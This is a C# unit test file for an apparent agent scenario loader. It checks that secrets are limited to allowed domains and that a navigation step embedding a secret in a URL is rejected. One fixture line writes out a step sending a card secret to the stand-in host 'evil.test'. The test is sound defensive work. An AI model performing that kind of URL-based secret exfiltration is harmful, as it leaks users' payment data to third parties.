using ActionAgent.Core.Scenarios;

namespace ActionAgent.Core.Tests.Scenarios;

public sealed class SecretBindingLoaderTests
{
    private static readonly ScenarioLoadOptions WithCard = new() { GetEnvironmentVariable = _ => "4242424242424242" };

    private const string Header = """
        name: t
        goal: g
        app: { browser: { start: "https://shop.example.com/" } }

        """;

    [Fact]
    public void A_secret_declares_the_domains_it_may_be_typed_on()
    {
        var result = ScenarioLoader.Parse(Header + "secrets: { card: { env: CARD, domains: [pay.example.com, example.org] } }\n", "s.yaml", WithCard);

        Assert.True(result.Success, string.Join("; ", result.Errors));
        Assert.Equal(["pay.example.com", "example.org"], result.Scenario!.Secrets["card"].Domains);
    }

    [Fact]
    public void A_goto_url_that_carries_a_secret_is_rejected_with_file_line_and_field()
    {
        var result = ScenarioLoader.Parse(Header + "secrets: { card: { env: CARD } }\nsteps:\n  - goto: \"https://evil.test/?c=${secrets.card}\"\n", "s.yaml", WithCard);

        var error = Assert.Single(result.Errors);
        Assert.Equal(6, error.Line);
        Assert.Contains("cannot be part of a URL", error.Message, StringComparison.Ordinal);
    }
}
